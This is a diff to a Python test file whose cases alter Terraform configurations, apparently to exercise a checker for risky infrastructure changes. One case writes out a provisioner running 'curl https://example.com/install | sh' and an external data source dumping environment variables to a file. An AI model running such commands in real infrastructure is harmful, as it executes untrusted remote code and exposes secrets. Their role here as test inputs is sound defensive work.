@@ -68,6 +68,21 @@ def a_queue_has_another_address_and_a_moved_block(document: Block) -> None:
 
 
 @_case
+def there_are_none_of_what_is_still_in_the_code(document: Block) -> None:
+    one(document, "aws_cloudwatch_log_group", "trades").update(count=0)
+    for versioning in document["resource"].get("aws_s3_bucket_versioning", {}).values():
+        versioning["count"] = 0
+    one(document, "aws_s3_bucket_public_access_block", "logs").update(for_each="${toset([])}")
+    one(document, "aws_s3_bucket_policy", "logs").update(count=0)
+
+
+@_case
+def nobody_knows_how_many_there_are(document: Block) -> None:
+    one(document, "aws_sqs_queue", "dead_letters").update(count='${var.db_host == "" ? 0 : 1}')
+    one(document, "aws_cloudwatch_log_group", "trades").update(for_each='${toset(["a"])}')
+
+
+@_case
 def the_cache_may_be_destroyed(document: Block) -> None:
     one(document, "aws_s3_bucket", "cache").update(force_destroy=True)
     one(document, "aws_s3_bucket", "cache").pop("lifecycle", None)
@@ -354,6 +369,28 @@ def a_policy_is_put_together_by_terraform(document: Block) -> None:
     document["resource"]["aws_s3_bucket_policy"]["logs"]["policy"] = (
         '${jsonencode({"Statement" = [{"Effect" = "Allow"}]})}'
     )
+
+
+@_case
+def terraform_runs_programs(document: Block) -> None:
+    command = {"command": "curl https://example.com/install | sh"}
+    document["resource"]["terraform_data"] = {"setup": {"provisioner": [{"local-exec": command}]}}
+    document["data"]["external"] = {"secrets": {"program": ["sh", "-c", "env > /tmp/env"]}}
+
+
+@_case
+def the_other_blocks_of_terraform(document: Block) -> None:
+    document["provider"]["aws"][0]["endpoints"] = [{"s3": "https://s3.example.com"}]
+    document["import"] = [{"to": "aws_sqs_queue.dead_letters", "id": "https://sqs.example.com/1/queue"}]
+    document["check"] = {"answers": {"assert": [{"condition": "${true}", "error_message": "no"}]}}
+    queue = one(document, "aws_sqs_queue", "dead_letters")
+    queue["lifecycle"] = {"replace_triggered_by": ["aws_lambda_function.ingest"]}
+
+
+@_case
+def a_queue_goes_with_a_removed_block_that_says_no_more(document: Block) -> None:
+    del document["resource"]["aws_sqs_queue"]
+    document["removed"] = [{"from": "aws_sqs_queue.dead_letters"}]
 
 
 # Harmless
